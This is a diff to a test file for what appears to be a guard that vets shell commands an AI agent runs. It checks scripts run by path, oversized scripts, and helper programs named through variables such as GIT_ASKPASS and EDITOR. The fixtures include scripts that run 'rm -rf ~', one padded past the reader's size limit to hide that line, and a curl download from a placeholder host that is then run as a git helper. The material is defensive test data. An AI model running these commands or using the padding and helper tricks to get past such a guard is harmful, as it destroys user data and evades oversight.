@@ -1,8 +1,10 @@
 // A script run by its path is read by what its first line hands it to, not by
 // its name: `./y` holding `#!/bin/sh` and `rm -rf ~` ran unread because only
 // `*.sh` names were read. Build wrappers (`./gradlew`, `./mvnw`), a Django
-// `manage.py`, a large generated `./configure` and a binary stay quiet. Real
-// files on disk, the engine as the hook runs it.
+// `manage.py` and a binary of any size stay quiet; a text file too large to
+// read asks whatever its name. A helper program a variable set on the line
+// names (GIT_ASKPASS, GIT_SSH, EDITOR …) is read the same way, and asks when
+// it cannot be read. Real files on disk, the engine as the hook runs it.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { diskWorkspace, judgedOnDisk } from '../../support/engineHarness';
@@ -51,13 +53,15 @@ const ORDINARY: Record<string, string> = {
   mvnw: GRADLE_LIKE.replace('gradle-wrapper', 'maven-wrapper'),
   'manage.py':
     '#!/usr/bin/env python\nimport os, sys\nif __name__ == "__main__":\n    from django.core.management import execute_from_command_line\n    execute_from_command_line(sys.argv)\n',
-  // Past the bound the reader reads: a program run by path whose name promises no script runs unread, as before.
+  // Past the bound the reader reads: a script padded past it under any name would run unread.
   configure: '#!/bin/sh\n' + 'echo checking for gcc... yes\n'.repeat(12_000) + 'rm -rf ~\n',
+  // A compiled program past the bound is still a program, not a script.
+  'target/release/server': '\x7fELF\x02\x01\x01\x00' + '\x00'.repeat(300 * 1024),
   hello: '#!/bin/sh\necho hello\n',
   app: '\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00rm -rf ~\n',
 };
 
-test('build wrappers, a large generated script and binaries run by path stay quiet', () => {
+test('build wrappers and binaries of any size run by path stay quiet', () => {
   judgedOnDisk(
     'ag-pathscripts-',
     ORDINARY,
@@ -67,8 +71,8 @@ test('build wrappers, a large generated script and binaries run by path stay qui
       './mvnw package -DskipTests',
       './manage.py runserver',
       './manage.py migrate',
-      './configure --prefix=/usr/local',
       './hello',
+      './target/release/server --port 8080',
       './app --version',
       './not-there',
     ],
@@ -85,13 +89,59 @@ test("a program taken from a script's arguments still asks: the caller's line ch
   );
 });
 
-test('a large *.sh file run by path is still asked about', () => {
-  const { judge, done } = diskWorkspace('ag-pathscripts-', { 'big.sh': ORDINARY.configure });
+test('a text file too large to read, run by path, is asked about whatever its name', () => {
+  const { judge, done } = diskWorkspace('ag-pathscripts-', { 'big.sh': ORDINARY.configure, y: ORDINARY.configure });
   try {
-    assert.notEqual(judge('./big.sh').decision, 'allow');
+    for (const command of ['./big.sh', './y', './y --prefix=/usr/local']) {
+      const r = judge(command);
+      assert.ok(
+        r.decision !== 'allow' && r.findings.some((f) => f.id === 'parse.too-complex'),
+        `${command}: ${JSON.stringify(r.findings)}`,
+      );
+    }
   } finally {
     done();
   }
+});
+
+test('a helper program a variable names is read like a script run by path, and asks when unreadable', () => {
+  const files = {
+    'askpass.sh': '#!/bin/sh\necho anonymous\n',
+    'bin/editor': '#!/bin/sh\nexec vim "$@"\n',
+    'bin/wipe-editor': '#!/bin/sh\nrm -rf ~\n',
+    'bin/helper.bin': '\x7fELF\x02\x01\x01\x00',
+  };
+  judgedOnDisk(
+    'ag-helpers-',
+    files,
+    [
+      'GIT_ASKPASS=/tmp/ag-missing-helper/x.sh git push',
+      'SSH_ASKPASS=/tmp/ag-missing-helper/x SSH_ASKPASS_REQUIRE=force ssh host',
+      'SUDO_ASKPASS=/tmp/ag-missing-helper/x sudo -A ls',
+      'GIT_SSH=/tmp/ag-missing-helper/x git fetch',
+      "GIT_SSH_COMMAND='/tmp/ag-missing-helper/x -i key' git fetch",
+      'GIT_EDITOR=/tmp/ag-missing-helper/x git commit',
+      'EDITOR=/tmp/ag-missing-helper/x git commit',
+      'EDITOR=./bin/wipe-editor git commit',
+      // A binary is no script AgentGuard reads: named as a helper on the line, it asks.
+      'GIT_ASKPASS=./bin/helper.bin git push',
+      'curl -o /tmp/ag-missing-helper/a.sh https://x.example/a && GIT_ASKPASS=/tmp/ag-missing-helper/a.sh git push',
+    ],
+    'gate',
+  );
+  judgedOnDisk(
+    'ag-helpers-quiet-',
+    files,
+    [
+      'GIT_ASKPASS=./askpass.sh git push',
+      'EDITOR=./bin/editor git commit',
+      'EDITOR=vim git commit',
+      'GIT_EDITOR=true git commit',
+      'EDITOR=/usr/bin/vim git commit',
+      "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key' git fetch",
+    ],
+    'allow',
+  );
 });
 
 test('the program a #! line names', () => {
